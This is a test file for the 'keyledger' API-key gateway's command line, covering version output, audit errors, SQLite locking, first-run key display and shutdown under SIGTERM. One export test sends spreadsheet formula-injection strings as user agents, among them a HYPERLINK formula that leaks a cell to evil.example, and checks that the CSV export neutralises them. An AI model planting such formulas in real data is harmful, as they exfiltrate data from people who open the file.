// Operating keyledger as a process and a command line: `--version`, the audit commands on an
// unknown organization, the CSV export and spreadsheet formulas, CLI commands beside a running
// SQLite gateway, errors that name their file, a first run at a terminal, and `npm start` under
// SIGTERM. Everything runs in child processes, as an operator runs it.

import { spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, describe, expect, it } from 'vitest';
import { openSqliteEventStore } from '../../src/eventstore/sqlite.js';
import { ROOT, runCli, serveCli } from '../support/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'keyledger-operating-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

interface Created {
  organization: { id: string };
  apiKey: { secret: string };
  applicationKey: { secret: string };
}

async function initOrg(env: Record<string, string>, name: string): Promise<Created> {
  const created = await runCli(['init-org', '--name', name, '--admin-email', 'ops@example.test', '--json'], env);
  expect(created.code, created.stderr).toBe(0);
  return JSON.parse(created.stdout) as Created;
}

/** The JSON lines a process wrote. */
function jsonLines(output: string): { level: number; msg: string; [field: string]: unknown }[] {
  return output
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as { level: number; msg: string });
}

describe('the command line', () => {
  it('keyledger --version prints the version of package.json', async () => {
    const { version } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string };
    for (const flag of ['--version', '-V']) {
      const result = await runCli([flag]);
      expect(result).toMatchObject({ code: 0, stdout: `${version}\n` });
    }
  });

  it('package.json asks for the Node.js the code needs: crc32 from node:zlib came in 20.15', () => {
    const { engines } = JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { engines: { node: string } };
    const [major, minor] = (/^>=(\d+)\.(\d+)/.exec(engines.node) ?? []).slice(1).map(Number);
    expect(readFileSync(join(ROOT, 'src/domain/secrets.ts'), 'utf8')).toMatch(/import \{[^}]*\bcrc32\b[^}]*\} from 'node:zlib'/);
    expect(major! > 20 || (major === 20 && minor! >= 15), engines.node).toBe(true);
  });

  it('audit verify and audit export on an unknown organization exit 1 and say so, instead of an intact, empty log', async () => {
    const env = { KEYLEDGER_EVENT_STORE: `sqlite:${join(dir, 'unknown-org.db')}`, KEYLEDGER_BOOTSTRAP: 'false' };
    await initOrg(env, 'Known');
    const unknown = '00000000-0000-4000-8000-000000000000';
    for (const args of [
      ['audit', 'verify', '--org', unknown],
      ['audit', 'export', '--org', unknown, '--format', 'csv'],
    ]) {
      const result = await runCli(args, env);
      expect(result.code, args.join(' ')).toBe(1);
      expect(result.stderr).toContain(`NOT_FOUND: no organization ${unknown} in sqlite:`);
      expect(result.stdout).toBe('');
    }
  });

  it('an error about a file names the file', async () => {
    const folder = join(dir, 'a-folder.db');
    mkdirSync(folder);
    const result = await runCli(['projections', 'status'], { KEYLEDGER_EVENT_STORE: `sqlite:${folder}` });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`unable to open database file: ${folder}`);
  });
});

describe('audit export', () => {
  it('neutralises spreadsheet formulas in CSV by default; --raw keeps the bytes as stored, as NDJSON always does', async () => {
    const env = { KEYLEDGER_EVENT_STORE: `sqlite:${join(dir, 'export.db')}`, KEYLEDGER_BOOTSTRAP: 'false' };
    const org = await initOrg(env, 'Exported');
    const agents = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(1,2)', 'curl/8.5.0'];
    const served = await serveCli(env);
    try {
      for (const agent of agents) {
        const answer = await fetch(`${served.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'user-agent': agent, 'x-api-key': org.apiKey.secret, 'x-application-key': org.applicationKey.secret },
          body: JSON.stringify({ query: '{ scopes { name } }' }),
        });
        expect(answer.status).toBe(200);
      }
    } finally {
      await served.stop();
    }
    const userAgents = (args: string[]) => {
      const rows = parseCsv(runCliSync(['audit', 'export', '--org', org.organization.id, '--format', 'csv', ...args], env));
      const column = rows[0]!.indexOf('user_agent');
      return rows.slice(1).flatMap((row) => (row[column] ? [row[column]] : []));
    };
    expect(userAgents([])).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'+1+1", "'-2+3", "'@SUM(1,2)", 'curl/8.5.0']);
    expect(userAgents(['--raw'])).toEqual(agents);
    const ndjson = runCliSync(['audit', 'export', '--org', org.organization.id, '--format', 'ndjson'], env)
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { user_agent: string | null });
    expect(ndjson.flatMap((entry) => (entry.user_agent ? [entry.user_agent] : []))).toEqual(agents);
  }, 60_000);
});

/** Runs the CLI and returns its stdout, failing on a non-zero exit. */
function runCliSync(args: readonly string[], env: Record<string, string>): string {
  const result = spawnSync(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli.ts'), ...args], { cwd: ROOT, env: { ...process.env, ...env }, encoding: 'utf8' });
  expect(result.status, result.stderr).toBe(0);
  return result.stdout;
}

/** RFC 4180, as the export writes it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('a CLI command beside a running SQLite gateway', () => {
  it('waits for the write lock quietly: neither the gateway nor the commands report "database is locked"', async () => {
    const env = { KEYLEDGER_EVENT_STORE: `sqlite:${join(dir, 'beside.db')}`, KEYLEDGER_BOOTSTRAP: 'false' };
    await initOrg(env, 'First');
    const served = await serveCli(env);
    const outputs: string[] = [];
    try {
      // Commands one after another, then several at once, while the gateway's projections follow each write.
      for (let round = 0; round < 3; round++) {
        const results = await Promise.all(
          Array.from({ length: round === 0 ? 1 : 3 }, (_, i) => runCli(['init-org', '--name', `Beside ${round}.${i}`, '--admin-email', 'ops@example.test', '--json'], env)),
        );
        for (const result of results) {
          expect(result.code, result.stderr).toBe(0);
          outputs.push(result.stderr);
        }
      }
      const status = await runCli(['projections', 'status', '--json'], env);
      expect(status.code, status.stderr).toBe(0);
      await sleep(500);
    } finally {
      expect(await served.stop()).toBe(0);
    }
    const gateway = served.output();
    expect(gateway).not.toMatch(/database is locked|SQLITE_BUSY/);
    expect(jsonLines(gateway).filter((line) => line.level >= 40)).toEqual([]);
    for (const stderr of outputs) expect(stderr).not.toMatch(/database is locked|SQLITE_BUSY/);
  }, 90_000);

  it('a write lock held past the busy timeout: each projection warns once that it waits, logs no error, and goes on', async () => {
    const file = join(dir, 'held.db');
    const env = { KEYLEDGER_EVENT_STORE: `sqlite:${file}`, KEYLEDGER_BOOTSTRAP: 'false' };
    await initOrg(env, 'First');
    const served = await serveCli(env);
    try {
      // Another process appends an event the projections handle, then holds the file's write lock for 7 s.
      const store = openSqliteEventStore(file);
      const holder = new Database(file);
      try {
        const orgId = randomUUID();
        await store.append(`org-${orgId}`, [{ id: randomUUID(), type: 'OrganizationCreated', data: { orgId, name: 'Held', apiKeyLimit: 50 } }]);
        holder.exec('begin immediate');
        await sleep(7000);
      } finally {
        holder.exec('rollback');
        holder.close();
        await store.close();
      }
      // The projections go on by themselves.
      for (let i = 0; i < 100 && !served.output().includes('projection goes on'); i++) await sleep(100);
    } finally {
      expect(await served.stop()).toBe(0);
    }
    const lines = jsonLines(served.output());
    expect(lines.filter((line) => line.level >= 50)).toEqual([]);
    const waits = lines.filter((line) => line.level === 40 && line.msg.startsWith('projection waits'));
    expect(waits.length).toBeGreaterThan(0);
    expect(new Set(waits.map((line) => line.projection)).size).toBe(waits.length);
    const goOn = lines.filter((line) => line.msg === 'projection goes on: the store is no longer busy').map((line) => line.projection);
    expect(goOn).toHaveLength(waits.length);
    expect(new Set(goOn)).toEqual(new Set(waits.map((line) => line.projection)));
  }, 90_000);
});

describe('the first run at a terminal', () => {
  const hasScript = spawnSync('script', ['--version'], { encoding: 'utf8' }).status === 0;

  it.skipIf(!hasScript)(
    'shows the admin keys once on the terminal, not in stdout (the JSON log stream), and writes no keys file',
    async () => {
      const store = join(dir, 'terminal.db');
      const stdout = join(dir, 'terminal.stdout');
      const keysFile = join(dir, 'terminal-keys.txt');
      // util-linux `script` gives the command a terminal; its stdout (the log stream) goes to a file.
      const command = `exec ${JSON.stringify(process.execPath)} --import tsx src/cli.ts serve --port 0 > ${JSON.stringify(stdout)}`;
      const child = spawn('script', ['-qec', command, '/dev/null'], {
        cwd: ROOT,
        env: { ...process.env, KEYLEDGER_EVENT_STORE: `sqlite:${store}`, KEYLEDGER_FIRST_RUN_KEYS_FILE: keysFile, LOG_LEVEL: 'info' },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let terminal = '';
      child.stdout.on('data', (chunk: Buffer) => (terminal += chunk.toString()));
      child.stderr.on('data', (chunk: Buffer) => (terminal += chunk.toString()));
      const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
      try {
        for (let i = 0; i < 300 && !terminal.includes('└─'); i++) await sleep(100);
        expect(terminal).toContain('keyledger: first run');
        const apiKey = /API key:\s+(klk_api_\w+)/.exec(terminal)?.[1];
        expect(apiKey).toBeDefined();
        for (let i = 0; i < 50 && !readFileSync(stdout, 'utf8').includes('shown on the terminal'); i++) await sleep(100);
        const logs = readFileSync(stdout, 'utf8');
        expect(jsonLines(logs).map((line) => line.msg)).toContain("first run: the admin's keys were shown on the terminal, once");
        expect(logs).not.toContain(apiKey!);
        expect(logs).not.toMatch(/klk_(api|app)_\w{38}/);
        expect(existsSync(keysFile)).toBe(false);
      } finally {
        // The gateway's pid is in its log lines; SIGTERM it, as Ctrl-C would.
        const pid = jsonLines(readFileSync(stdout, 'utf8'))[0]?.pid;
        if (typeof pid === 'number') process.kill(pid, 'SIGTERM');
        else child.kill('SIGKILL');
        await closed;
      }
    },
    60_000,
  );
});

describe('npm start', () => {
  it('stops cleanly on SIGTERM to npm: no process of the chain npm → sh → node is left behind', async () => {
    if (!existsSync(join(ROOT, 'dist/src/cli.js'))) {
      const build = spawnSync('npm', ['run', 'build'], { cwd: ROOT, encoding: 'utf8' });
      expect(build.status, build.stdout + build.stderr).toBe(0);
    }
    const store = join(dir, 'npm-start.db');
    // A process group of its own, so that its members can be found after npm is gone: an orphan keeps its group.
    const npm = spawn('npm', ['start', '--ignore-scripts', '--silent'], {
      cwd: ROOT,
      env: { ...process.env, KEYLEDGER_EVENT_STORE: `sqlite:${store}`, KEYLEDGER_BOOTSTRAP: 'false', PORT: '0', LOG_LEVEL: 'info' },
      stdio: ['ignore', 'pipe', 'pipe'],
      detached: true,
    });
    const group = npm.pid!;
    let output = '';
    npm.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    npm.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const exited = new Promise<void>((resolve) => npm.on('exit', () => resolve()));
    const alive = () => {
      try {
        process.kill(-group, 0);
        return true;
      } catch {
        return false;
      }
    };
    try {
      for (let i = 0; i < 300 && !output.includes('keyledger is listening'); i++) await sleep(100);
      const url = /"url":"(http:\/\/[^"]+)"/.exec(output)?.[1];
      expect(url, output).toBeDefined();
      expect((await fetch(`${url}/health`)).status).toBe(200);

      npm.kill('SIGTERM'); // to npm alone, as a process manager signals the process it started
      await exited;
      for (let i = 0; i < 100 && alive(); i++) await sleep(100);
      expect(alive(), 'a process of the npm start chain is still running').toBe(false);
      expect(output).toContain('keyledger stopped');
      await expect(fetch(`${url}/health`)).rejects.toThrow('fetch failed');
    } finally {
      if (alive()) process.kill(-group, 'SIGKILL');
    }
  }, 60_000);
});
